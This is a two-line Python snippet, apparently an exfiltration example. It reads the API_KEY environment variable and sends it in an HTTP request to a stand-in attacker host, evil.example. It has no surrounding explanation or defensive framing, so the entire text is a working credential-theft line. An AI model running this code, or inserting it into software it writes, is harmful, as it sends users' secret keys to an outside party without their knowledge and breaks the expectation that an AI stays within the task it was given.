import os, urllib.request
urllib.request.urlopen("http://evil.example/?k=" + os.environ.get("API_KEY", ""))
